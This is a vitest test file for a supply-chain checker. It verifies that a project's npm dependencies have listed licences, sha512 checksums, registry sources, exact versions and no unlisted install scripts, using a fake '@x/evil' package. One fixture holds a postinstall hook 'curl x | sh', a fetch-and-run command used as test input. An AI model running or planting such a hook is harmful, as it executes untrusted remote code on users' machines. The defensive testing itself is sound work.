import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  INSTALL_SCRIPTS,
  type InstalledManifest,
  LICENCES,
  type Lock,
  type Manifest,
  supplyChainTroubles,
} from '../../scripts/supply-chain-rules.ts';

const read = <T>(name: string): T =>
  JSON.parse(readFileSync(fileURLToPath(new URL(`../../${name}`, import.meta.url)), 'utf8')) as T;
const ours = read<Manifest>('package.json');
const lock = read<Lock>('package-lock.json');
const none = (): undefined => undefined;

/** Our own lock with one more package in it. */
function withPackage(locked: object, here?: InstalledManifest): readonly string[] {
  const evil = { version: '1.0.0', license: 'MIT', integrity: 'sha512-eA==', ...locked };
  const packages = { ...lock.packages, 'node_modules/a/node_modules/@x/evil': evil };
  return supplyChainTroubles(ours, { packages }, (path) => (path.endsWith('@x/evil') ? here : undefined));
}

describe('what is installed', () => {
  it('is all on the lists, and the lists hold nothing else', () => {
    expect(supplyChainTroubles(ours, lock, none)).toEqual([]);
    expect(Object.values({ ...LICENCES, ...INSTALL_SCRIPTS }).every((why) => why.length > 5)).toBe(true);
  });

  it.each([
    ['another licence', { license: 'GPL-3.0' }, 'its licence is GPL-3.0, which is not on the list'],
    ['no licence', { license: undefined }, 'its licence is none, which is not on the list'],
    ['two licences of which one is not ours', { license: 'MIT AND SSPL-1.0' }, 'its licence is MIT AND SSPL-1.0'],
    ['an install script', { hasInstallScript: true }, 'runs a script when it is installed'],
    ['no checksum', { integrity: undefined }, 'the lock has no sha512 of it'],
    ['a weak checksum', { integrity: 'sha1-eA==' }, 'the lock has no sha512 of it'],
    ['a branch for a registry', { resolved: 'git+ssh://git@host/evil.git#main' }, 'comes from no registry'],
  ])('may not have %s', (_what, locked, trouble) => {
    const found = withPackage(locked);
    expect(found).toHaveLength(1);
    expect(found[0]).toContain(`@x/evil@1.0.0: ${trouble}`);
  });

  it.each<[string, InstalledManifest, string]>([
    ['licence', { version: '1.0.0', license: 'BUSL-1.1' }, 'its licence is BUSL-1.1'],
    ['script', { version: '1.0.0', license: 'MIT', scripts: { postinstall: 'curl x | sh' } }, 'runs a script'],
    ['version', { version: '1.0.1', license: 'MIT' }, '1.0.1 is installed'],
  ])('may not be of another %s than the lock says', (_what, here, trouble) => {
    expect(withPackage({}, here)).toEqual([expect.stringContaining(trouble)]);
  });

  it('may have one of several licences, or several that are all on the list', () => {
    expect(withPackage({ license: '(GPL-2.0 OR MIT)' })).toEqual([]);
    expect(withPackage({ license: 'MIT AND ISC' })).toEqual([]);
  });

  it('is asked for by exact versions', () => {
    const loose = { ...ours, dependencies: { ...ours.dependencies, a: '^1.0.0', b: '~1.2.3', c: 'latest', d: '1.x' } };
    expect(supplyChainTroubles(loose, lock, none).map((t) => t.slice(14, 15))).toEqual(['a', 'b', 'c', 'd']);
    const override = { ...ours, overrides: { a: { b: '>=1' } } };
    expect(supplyChainTroubles(override, lock, none)).toEqual([expect.stringContaining('b is ">=1"')]);
  });

  it('is not on a list for nothing', () => {
    const without = (name: string): Lock => ({
      packages: Object.fromEntries(Object.entries(lock.packages).filter(([path]) => !path.endsWith(`/${name}`))),
    });
    expect(supplyChainTroubles(ours, without('argparse'), none)).toEqual([
      'licence PSF-2.0: no package has it any more',
    ]);
    expect(supplyChainTroubles(ours, without('esbuild'), none)).toEqual([
      'install script of esbuild: there is none any more',
    ]);
  });
});
